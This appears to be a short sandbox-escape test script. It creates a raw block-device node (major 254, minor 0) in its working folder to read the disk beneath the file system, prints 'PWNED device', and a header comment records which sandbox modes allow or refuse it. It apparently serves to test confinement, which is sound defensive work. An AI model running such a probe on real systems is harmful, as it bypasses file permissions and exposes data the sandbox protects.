# makes a device in its own folder to read the disk past all files | basic: works finished | auto: refused error | with: depends
import os
import stat

os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
print("PWNED device")
